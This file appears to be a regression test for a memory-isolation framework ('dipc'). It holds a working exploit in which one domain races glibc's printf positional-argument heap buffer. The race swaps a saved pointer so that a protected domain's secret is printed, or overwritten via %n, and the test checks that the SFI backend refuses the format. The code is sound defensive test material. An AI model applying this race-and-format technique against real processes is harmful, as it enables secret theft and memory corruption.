// printf's positional work area (attack round 18): with more than some 42
// positional arguments (or 16 conversions) glibc 2.36 keeps the
// arguments' values past its 1 KiB stack buffer in malloc'd memory: in
// the running domain's heap, where a second thread of domain `zeta`, with
// no grant, rewrote the saved %48$s pointer to vault's secret while libc
// was blocked writing to a full pipe, and libc printed the secret into
// it (mode write: a %n's saved target, over vault's first word). Under
// `sfi` such a format is refused to a domain with a heap of its own
// (loader/sfi_printf.c). Control: under `none` zeta steals and writes.
// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 -I%S/Inputs %s -o %t -lpthread
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t 2>&1 | FileCheck %s --check-prefix=SFI
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t write 2>&1 | FileCheck %s --check-prefix=SFI
// RUN: %dipc-bin-dir/dipc-run --backend=none %t 2>&1 | FileCheck %s --check-prefix=NONE-READ
// RUN: %dipc-bin-dir/dipc-run --backend=none %t write 2>&1 | FileCheck %s --check-prefix=NONE-WRITE
// SFI: printf format {{.*}} refused: a positional format with more than 12 conversions
// SFI: nothing stolen
// SFI: vault's secret is now: vault-secret-42
// NONE-READ: stole 'vault-secret-42'
// NONE-WRITE: vault's secret is now: ....t-secret-42
// (glibc 2.36 stdio-common/vfprintf-internal.c, printf_positional.)
#define _GNU_SOURCE
#include <dipc.h>
#include "vault.h"
#include <pthread.h>
#include <unistd.h>

static int fds[2] __dom("zeta");
static char *g_args __dom("zeta");
static const char *g_secret __dom("zeta");
static long g_hit __dom("zeta");
static char out[1 << 18] __dom("zeta");
static long outlen __dom("zeta");
static pthread_t thr __dom("zeta");
static char fmt[1024] __dom("zeta");

static void *drain(void *arg) __dom("zeta");
static void *drain(void *arg) {
  (void)arg;
  usleep(300000); /* the writer is blocked on the full pipe by now */
  long *v = (long *)g_args; /* union printf_arg: 16 bytes each */
  if ((int)v[0] == 1 && (int)v[2] == 100000 && (int)v[4] == 0x41414141 && v[47 * 2]) {
    v[47 * 2] = (long)g_secret;
    g_hit = 1;
  }
  for (;;) {
    long n = read(fds[0], out + outlen, sizeof out - outlen - 1);
    if (n <= 0) break;
    outlen += n;
  }
  return 0;
}

static void put(char **p, const char *s) { while (*s) *(*p)++ = *s++; }
static void put_num(char **p, int n) { if (n >= 10) put_num(p, n / 10); *(*p)++ = (char)('0' + n % 10); }

long zeta(const char *secret, char *loot, int direct) __dom("zeta") __entry;
long zeta(const char *secret, char *loot, int direct) {
  if (direct == 1) { take(secret, loot); return 2; } /* control: direct read */
  static char head[] = "%1$*2$d", pct[] = "%", dol[] = "$d", tail[] = "|%48$s|", tail_n[] = "|%48$n";
  static int counter;
  static char str[] = "zeta's own string";
  g_secret = secret;
  char *p = fmt;
  put(&p, head);
  for (int i = 3; i <= 47; i++) { put(&p, pct); put_num(&p, i); put(&p, dol); }
  put(&p, direct == 2 ? tail_n : tail);
  *p = 0;
  if (pipe(fds) != 0) return -1;
  /* libc's args_value: 48 * 24 bytes, the block a malloc of that size gets */
  g_args = malloc(48 * 24);
  free(g_args);
  if (pthread_create(&thr, 0, drain, 0) != 0) return -2;
  int r = dprintf(fds[1], fmt, 1, 100000, 1094795585, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32, 33, 34, 35, 36, 37, 38, 39, 40, 41, 42, 43, 44, 45, 46, 47, direct == 2 ? (char *)&counter : str);
  close(fds[1]);
  pthread_join(thr, 0);
  out[outlen] = 0;
  char *bar = 0;
  for (long i = outlen - 2; i >= 0; i--) if (out[i] == '|') { bar = out + i + 1; break; }
  for (int i = 0; bar && i < 31 && bar[i] && bar[i] != '|'; i++) loot[i] = bar[i];
  return g_hit * 1000000 + r;
}

static void vault_show(void) __dom("vault") __entry;
static void vault_show(void) {
  char m[40]; int i = 0;
  for (; i < 16; i++) m[i] = vault_secret[i] >= 32 && vault_secret[i] < 127 ? vault_secret[i] : '.';
  m[i++] = '\n';
  write(1, "vault's secret is now: ", 23); write(1, m, i);
}

int main(int argc, char **argv) {
  const char *secret = vault_address();
  char loot[32] = "";
  printf("attacking (printf positional work area)\n");
  fflush(stdout);
  int mode = argc > 1 ? (argv[1][0] == 'w' ? 2 : 1) : 0;
  long r = zeta(secret, loot, mode);
  printf("zeta returned %ld, dipc_errno %d\n", r, dipc_errno);
  printf(loot[0] && mode != 2 ? "stole '%s'\n" : "nothing stolen\n", loot);
  fflush(stdout);
  vault_show();
  return 0;
}
